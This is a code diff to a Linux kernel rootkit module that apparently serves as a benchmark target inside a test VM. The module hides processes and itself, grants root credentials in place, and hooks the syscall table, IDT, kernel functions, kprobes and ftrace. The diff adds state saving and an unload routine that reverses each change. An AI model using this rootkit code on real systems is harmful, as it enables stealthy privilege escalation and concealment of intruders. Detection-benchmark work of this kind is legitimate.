@@ -5,7 +5,8 @@
  * is chosen by a module parameter; addresses come from /proc/kallsyms, which
  * the test reads as root inside the guest.
  *
- *   hide_pid=N          unlink task N from the task list (it keeps running)
+ *   hide_pid=N          unlink task N from the task list (it keeps running);
+ *                       tasklist_lock_addr=ADDR lets it take the task list's lock
  *   hide_self=1         unlink this module from the module list
  *   root_pid=N          give task N root credentials in place
  *   syscall_table=ADDR syscall_nr=N   overwrite sys_call_table[N] with our handler
@@ -13,6 +14,9 @@
  *   patch_addr=ADDR     plant a jmp at the start of a kernel function (inline hook)
  *   kprobe_hook=1       register a kprobe on __x64_sys_getppid with our handler
  *   ftrace_hook=1       register an ftrace callback on vfs_getattr
+ *
+ * Unloading it (possible unless hide_self=1) undoes every action, so a
+ * benchmark can repeat each technique in one boot.
  */
 #include <linux/cred.h>
 #include <linux/ftrace.h>
@@ -69,6 +73,30 @@ static inline void wp_on(void)
 	asm volatile("mov %0, %%cr0" : "+r"(cr0) : : "memory");
 }
 
+/* tasklist_lock is not exported: its address comes from /proc/kallsyms like the tables' */
+static unsigned long tasklist_lock_addr;
+module_param(tasklist_lock_addr, ulong, 0);
+
+static void tasks_lock(void)
+{
+	if (tasklist_lock_addr)
+		write_lock_irq((rwlock_t *)tasklist_lock_addr);
+}
+
+static void tasks_unlock(void)
+{
+	if (tasklist_lock_addr)
+		write_unlock_irq((rwlock_t *)tasklist_lock_addr);
+}
+
+static struct task_struct *hidden_task;
+static unsigned long saved_syscall;
+static u16 saved_gate[8];
+static u8 saved_code[5];
+static kuid_t saved_uid[4];
+static kgid_t saved_gid[4];
+static int kprobe_registered, ftrace_registered;
+
 static struct task_struct *task_of(int nr)
 {
 	return pid_task(find_vpid(nr), PIDTYPE_PID);
@@ -78,14 +106,21 @@ static int __init vms_init(void)
 {
 	struct task_struct *t;
 
-	if (hide_pid > 0 && (t = task_of(hide_pid)))
+	if (hide_pid > 0 && (t = task_of(hide_pid))) {
+		hidden_task = get_task_struct(t);
+		tasks_lock();
 		list_del_init(&t->tasks);
+		tasks_unlock();
+	}
 	if (root_pid > 0 && (t = task_of(root_pid))) {
 		struct cred *c = (struct cred *)t->real_cred;
+		saved_uid[0] = c->uid; saved_uid[1] = c->euid; saved_uid[2] = c->suid; saved_uid[3] = c->fsuid;
+		saved_gid[0] = c->gid; saved_gid[1] = c->egid; saved_gid[2] = c->sgid; saved_gid[3] = c->fsgid;
 		c->uid.val = c->euid.val = c->suid.val = c->fsuid.val = 0;
 		c->gid.val = c->egid.val = c->sgid.val = c->fsgid.val = 0;
 	}
 	if (syscall_table && syscall_nr >= 0) {
+		saved_syscall = ((unsigned long *)syscall_table)[syscall_nr];
 		wp_off();
 		((unsigned long *)syscall_table)[syscall_nr] = (unsigned long)vms_fake_syscall;
 		wp_on();
@@ -93,6 +128,7 @@ static int __init vms_init(void)
 	if (idt_table && idt_vector >= 0) {
 		unsigned long h = (unsigned long)vms_fake_handler;
 		u16 *gate = (u16 *)(idt_table + 16 * idt_vector);
+		memcpy(saved_gate, gate, sizeof(saved_gate));
 		wp_off();
 		gate[0] = h & 0xffff;
 		gate[3] = (h >> 16) & 0xffff;
@@ -102,18 +138,20 @@ static int __init vms_init(void)
 	if (patch_addr) {
 		long rel = (long)vms_fake_handler - (long)(patch_addr + 5);
 		u8 *p = (u8 *)patch_addr;
+		memcpy(saved_code, p, sizeof(saved_code));
 		wp_off();
 		p[0] = 0xe9;
 		*(s32 *)(p + 1) = (s32)rel;
 		wp_on();
 	}
 	if (kprobe_hook)
-		register_kprobe(&vms_kprobe);
+		kprobe_registered = !register_kprobe(&vms_kprobe);
 	if (ftrace_hook) {
 		int err = ftrace_set_filter(&vms_ftrace_ops, (unsigned char *)"vfs_getattr", 11, 0);
 
 		if (!err)
 			err = register_ftrace_function(&vms_ftrace_ops);
+		ftrace_registered = !err;
 		pr_info("vmsrootkit: ftrace hook: %d\n", err);
 	}
 	if (hide_self)
@@ -121,4 +159,42 @@ static int __init vms_init(void)
 	return 0;
 }
 
+static void __exit vms_exit(void)
+{
+	struct task_struct *t;
+
+	if (ftrace_registered)
+		unregister_ftrace_function(&vms_ftrace_ops);
+	if (kprobe_registered)
+		unregister_kprobe(&vms_kprobe);
+	if (patch_addr) {
+		wp_off();
+		memcpy((u8 *)patch_addr, saved_code, sizeof(saved_code));
+		wp_on();
+	}
+	if (idt_table && idt_vector >= 0) {
+		wp_off();
+		memcpy((u16 *)(idt_table + 16 * idt_vector), saved_gate, sizeof(saved_gate));
+		wp_on();
+	}
+	if (syscall_table && syscall_nr >= 0) {
+		wp_off();
+		((unsigned long *)syscall_table)[syscall_nr] = saved_syscall;
+		wp_on();
+	}
+	if (root_pid > 0 && (t = task_of(root_pid))) {
+		struct cred *c = (struct cred *)t->real_cred;
+		c->uid = saved_uid[0]; c->euid = saved_uid[1]; c->suid = saved_uid[2]; c->fsuid = saved_uid[3];
+		c->gid = saved_gid[0]; c->egid = saved_gid[1]; c->sgid = saved_gid[2]; c->fsgid = saved_gid[3];
+	}
+	if (hidden_task) {
+		tasks_lock();
+		if (pid_alive(hidden_task))
+			list_add_tail_rcu(&hidden_task->tasks, &init_task.tasks);
+		tasks_unlock();
+		put_task_struct(hidden_task);
+	}
+}
+
 module_init(vms_init);
+module_exit(vms_exit);
